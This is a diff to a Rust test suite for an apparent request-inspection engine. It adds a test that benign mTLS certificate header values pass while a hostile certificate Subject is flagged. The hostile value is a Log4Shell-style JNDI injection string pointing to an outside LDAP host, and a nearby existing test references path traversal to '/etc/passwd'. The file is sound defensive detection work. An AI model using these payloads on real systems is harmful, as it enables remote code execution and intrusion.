@@ -2,7 +2,7 @@
 
 use engine::{Engine, mutate::empty_request};
 use proptest::prelude::*;
-use shared::{AttackType, Body, Finding, InspectRequest, Severity};
+use shared::{AttackType, Body, ConnectorInfo, Finding, InspectRequest, Severity, Trigger};
 use std::sync::LazyLock;
 
 static ENGINE: LazyLock<Engine> = LazyLock::new(Engine::new);
@@ -43,6 +43,32 @@ fn a_sensitive_file_in_the_path_is_path_traversal() {
         let summaries = summaries(&request(path, ""));
         assert!(summaries.contains(&"ptrav uri /etc/passwd".to_owned()), "{path}: {summaries:?}");
     }
+}
+
+#[test]
+fn names_in_the_certificate_of_a_viewer_are_inspected_at_the_origin() {
+    let with = |name: &str, value: &str| InspectRequest {
+        connector: Some(ConnectorInfo { event: Some(Trigger::OriginRequest), ..ConnectorInfo::default() }),
+        headers: vec![(name.to_owned(), value.to_owned())],
+        ..request("/", "")
+    };
+    let benign = [
+        ("Subject", "CN=client_.com,OU=client-3,O=mTLS,ST=Washington,C=US"),
+        ("Subject", r"CN=D'Angelo\, Sons \+ Partners,O=Research \& Development (EU),C=IT"),
+        ("Issuer", "CN=rootcamtls.com,OU=rootCA,O=mTLS,L=Seattle,ST=Washington,C=US"),
+        ("Serial-Number", "4a:3f:5c:92:d1:e8:7b:6c"),
+        ("Sha256", "01fbf94fef5569753420c349f49adbfd80af5275377816e3ab1fb371b29cb586"),
+        ("Validity", "NotBefore=2023-09-21T01:50:17Z;NotAfter=2024-09-20T01:50:17Z"),
+    ];
+    for (part, value) in benign {
+        assert_eq!(findings(&with(&format!("CloudFront-Viewer-Cert-{part}"), value)), [], "{value}");
+    }
+    let hostile = with("CloudFront-Viewer-Cert-Subject", "CN=${jndi:ldap://203.0.113.9/a},O=x");
+    let summaries = summaries(&hostile);
+    assert!(
+        summaries.iter().any(|it| it.contains(" header > CLOUDFRONT-VIEWER-CERT-SUBJECT ")),
+        "{summaries:?}"
+    );
 }
 
 #[test]
